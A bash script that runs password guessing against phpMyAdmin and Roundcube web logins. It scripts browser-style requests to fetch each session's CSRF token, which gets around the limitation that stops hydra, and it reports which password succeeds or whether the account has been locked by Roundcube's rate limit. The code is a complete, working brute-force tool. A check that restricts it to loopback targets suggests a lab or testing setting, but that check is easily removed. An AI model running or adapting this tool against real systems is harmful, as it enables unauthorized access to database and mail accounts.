#!/usr/bin/env bash
# Password guessing against the two logins that hydra cannot drive, because
# each login POST must carry a token that the login page hands out with a
# session cookie: phpMyAdmin (cookie auth mode) and Roundcube. For every
# password in the list it does what a browser does: GET the login page (new
# cookie jar), read the token, POST the form. Loopback targets only.
#
#   token-guess.sh phpmyadmin http://127.0.0.1:8081/phpmyadmin/ dbadmin pwlist
#   token-guess.sh roundcube  http://127.0.0.1:8081/roundcube/  mailuser pwlist
#
# Prints one line per try (ok / fail / locked / other, the HTTP status, the
# password) and ends
# with "found: PASSWORD" and exit 0, or "not found" and exit 1.
# Roundcube locks an account that it knows after 3 failures within 60 s
# (login_rate_limit): after that even the right password answers
# "Too many failed login attempts", shown here as "locked".
set -euo pipefail

app=${1:?app: phpmyadmin or roundcube}
base=${2:?base URL of the app, ending in /}
user=${3:?user name}
list=${4:?password list file}

case $base in
  http://127.0.0.1:*/* | http://localhost:*/* | http://\[::1\]:*/*) ;;
  *) echo "token-guess.sh: only http://127.0.0.1:PORT/..., localhost or [::1] targets" >&2; exit 2 ;;
esac
[[ $base == */ ]] || base="$base/"

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

field() { # name, html file -> value of the first <input name="NAME" value="...">
  grep -oE "name=\"$1\" value=\"[^\"]*\"" "$2" | head -n 1 | sed -E 's/.*value="([^"]*)"/\1/' || true
}

try_phpmyadmin() { # password -> ok | fail | other
  local jar=$work/jar page=$work/page head=$work/head token code r
  rm -f "$jar"
  curl -sS -m 20 -c "$jar" -b "$jar" -o "$page" "${base}index.php?route=/"
  token=$(field token "$page")
  code=$(curl -sS -m 20 -c "$jar" -b "$jar" -o "$page" -D "$head" -w '%{http_code}' \
    --data-urlencode "pma_username=$user" --data-urlencode "pma_password=$1" \
    --data-urlencode "token=$token" -d 'server=1&route=%2F' "${base}index.php?route=/")
  if grep -qiE '^Set-Cookie: pmaAuth-1=' "$head" && ! grep -qiE '^Set-Cookie: pmaAuth-1=deleted' "$head"; then
    r=ok
  elif grep -q 'Cannot log in to the MySQL server' "$page"; then
    r=fail
  else
    r=other
  fi
  echo "$r $code"
}

try_roundcube() { # password -> ok | fail | locked | other
  local jar=$work/jar page=$work/page head=$work/head token code r
  rm -f "$jar"
  curl -sS -m 20 -c "$jar" -b "$jar" -o "$page" "${base}"
  token=$(field _token "$page")
  code=$(curl -sS -m 20 -c "$jar" -b "$jar" -o "$page" -D "$head" -w '%{http_code}' \
    --data-urlencode "_token=$token" -d '_task=login&_action=login&_timezone=UTC&_url=' \
    --data-urlencode "_user=$user" --data-urlencode "_pass=$1" "${base}?_task=login")
  if grep -qiE '^Set-Cookie: roundcube_sessauth=[^-]' "$head"; then
    r=ok
  elif grep -q 'Too many failed login attempts' "$page"; then
    r=locked
  elif grep -q 'Login failed' "$page"; then
    r=fail
  else
    r=other
  fi
  echo "$r $code"
}

while IFS= read -r pass || [[ -n $pass ]]; do
  [[ -n $pass ]] || continue
  case $app in
    phpmyadmin) r=$(try_phpmyadmin "$pass") ;;
    roundcube) r=$(try_roundcube "$pass") ;;
    *) echo "token-guess.sh: unknown app $app" >&2; exit 2 ;;
  esac
  echo "$r $pass"
  if [[ $r == ok\ * ]]; then
    echo "found: $pass"
    exit 0
  fi
done <"$list"
echo "not found"
exit 1
